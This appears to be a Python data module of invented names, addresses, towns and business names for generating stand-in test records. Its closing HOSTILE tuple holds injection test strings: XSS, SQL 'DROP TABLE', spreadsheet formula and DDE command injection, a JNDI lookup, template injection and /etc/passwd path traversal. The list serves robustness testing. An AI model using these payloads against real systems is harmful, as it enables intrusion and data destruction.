"""Invented words that names, addresses and texts of the stand-ins are made of."""


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


GIVEN = _words(
    "Amara Aaliyah Aditi Ahmed Aiko Alejandro Alice Amina Andrzej Anjali Anna Antonio Ava Björk"
    " Carlos Catherine Chidi Chloe Christopher Daniel David Deepak Diego Ding Dmitri Ebony"
    " Edward Elena Elizabeth Emily Ezra Fatima Fernando Françoise Gabriel George Grace Guðrún"
    " Hannah Hassan Henry Hiroshi Ibrahim Imani Ingrid Isabella Jack Jamal James Javier Jennifer"
    " Jésus John José Joseph Kaito Karin Katarzyna Keisha Kwame Lakshmi Latoya Leila Liam Linh"
    " Lucía Łukasz Malik Margaret María Matthew Mei Michael Mohammed Naomi Nguyên Nia Noah Olga"
    " Oluwaseun Omar Patricia Patrick Paul Pedro Priya Rahul Rebecca Richard Robert Rosa Ruth"
    " Samuel Sarah Şebnem Siobhán Søren Sofía Stephen Susan Tariq Thomas Tomáš Uma Valentina"
    " Victoria Wei William Ximena Yasmin Yusuf Zainab Zoë 覃 伟"
)
FAMILY = _words(
    "Abara Adeyemi Ahmadi Alvarez Andersson Bakker Banerjee Becker Bianchi Brown Carreño"
    " Castillo Chaudhry Chen Cohen Cooper D'Angelo Davies Delgado Diallo Dvořák Edwards El-Amin"
    " Evans Fischer Flores Fofana García Goldberg Gómez Greene Guðmundsdóttir Gupta Haddad"
    " Hansen Hernández Hoàng Hughes Ibáñez Ivanova Jackson Jansen Johansson Johnson Jones Kamara"
    " Kaplan Kaur Khan Kim Kowalczyk Kruger Lambert Lee Li Lindqvist López MacDonald Mahmoud"
    " Martin McAllister Mbeki Mendoza Miller Møller Moreau Murphy Nakamura Ndiaye Nguyen Novák"
    " Nowak O'Brien Okafor Oliveira Olsen Osei Papadopoulos Park Patel Pérez Petrov Quiñones"
    " Ramírez Rao Reyes Rivera Rossi Sánchez Santos Sato Schmidt Shah Silva Singh Smith Sokolov"
    " Stewart Tanaka Taylor Thompson Torres Tran Turner Ünal Van-der-Berg Vargas Walker Wang"
    " Washington Weiss Williams Wilson Wójcik Wong Wright Yamamoto Yildiz Young Zhang Zimmermann"
    " Žižka 毛 李"
)
NICKNAMES = {
    "Alejandro": "Alex", "Andrzej": "Andy", "Antonio": "Tony", "Catherine": "Kate",
    "Christopher": "Chris", "Daniel": "Dan", "David": "Dave", "Dmitri": "Dima", "Edward": "Ted",
    "Elizabeth": "Liz", "Fernando": "Nando", "Gabriel": "Gabe", "Henry": "Hank",
    "Isabella": "Bella", "James": "Jim", "Jennifer": "Jen", "John": "Jack", "José": "Pepe",
    "Joseph": "Joe", "Katarzyna": "Kasia", "Margaret": "Peggy", "Matthew": "Matt",
    "Michael": "Mike", "Mohammed": "Mo", "Patricia": "Pat", "Patrick": "Paddy",
    "Rebecca": "Becky", "Richard": "Dick", "Robert": "Bob", "Samuel": "Sam", "Stephen": "Steve",
    "Susan": "Sue", "Thomas": "Tom", "Valentina": "Tina", "Victoria": "Vicky", "William": "Bill",
}  # fmt: skip
STREETS = _words(
    "Alder Ash Aurora Beacon Birch Bluebell Canal Cedar Cherry Clover Cottage Dover Elm Falcon"
    " Foundry Garden Granite Harbor Heron Hickory Juniper King Lakeview Larch Laurel Linden"
    " Magnolia Maple Meadow Mill Oak Orchard Park Pine Poplar Prairie Quarry Railroad Ridge"
    " River Rose Rowan Sparrow Spring Spruce Station Summit Sycamore Tanner Union Valley Walnut"
    " Willow Windmill"
)
STREET_KINDS = ("Street", "Avenue", "Boulevard", "Road", "Lane", "Drive", "Court", "Place")
STREET_SHORT = {
    "Street": "St", "Avenue": "Ave", "Boulevard": "Blvd", "Road": "Rd", "Lane": "Ln",
    "Drive": "Dr", "Court": "Ct", "Place": "Pl", "North": "N", "South": "S", "East": "E",
    "West": "W",
}  # fmt: skip
TOWNS = (
    ("Prairie Falls", "IL: Illinois", "60999"), ("Lakemont", "IL: Illinois", "62990"),
    ("San Ysidro Heights", "CA: California", "92990"), ("Doña Vista", "NM: New Mexico", "88990"),
    ("Kettle Bay", "WI: Wisconsin", "54990"), ("New Aarhus", "MN: Minnesota", "56990"),
    ("Port Sorrow", "ME: Maine", "04990"), ("Cobbler Ridge", "VT: Vermont", "05990"),
    ("Three Pines", "NY: New York", "14990"), ("Halcyon", "GA: Georgia", "31990"),
)  # fmt: skip
TRADES = (
    "Auto Repair", "Bakery", "Books", "Builders", "Catering", "Child Care", "Cleaning", "Coffee",
    "Dental", "Electric", "Flowers", "Foods", "Grill", "Hair", "Hardware", "Health Clinic",
    "Laundry", "Logistics", "Market", "Nails", "Pharmacy", "Plumbing", "Press", "Roofing",
    "Security", "Shoes", "Tailoring", "Tax Service", "Taxi", "Theatre", "Tires", "Wellness",
)  # fmt: skip
COMPANY_FORMS = (
    "Incorporated",
    "Corporation",
    "Limited Liability Company",
    "Limited",
    "Foundation",
)
COMPANY_SHORT = {
    "Incorporated": "Inc.", "Corporation": "Corp", "Limited Liability Company": "LLC",
    "Limited": "Ltd", "Foundation": "Fdn", "and": "&", "Company": "Co",
}  # fmt: skip
AREA_CODES = tuple(
    f"{code}" for code in range(200, 990) if f"{code}"[1] != "9" and f"{code}"[1:] != "11"
)
HOSTILE = (
    "<script>alert('x')</script>",
    'O"><img src=x onerror=alert(1)>',
    "Robert'); DROP TABLE tcontact;--",
    '=HYPERLINK("http://example.invalid","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnirtS desreveR\u202c",
    "Zero\u200bWidth\u200dJoiner",
    "{{7*7}} ${jndi:ldap://example.invalid/a}",
    "Line\nBreak\tTab",
    "👩‍👩‍👧 Emoji",
    "Long" + "g" * 600,
    "../../etc/passwd%00",
)
"""Names that must pass through everything as text."""
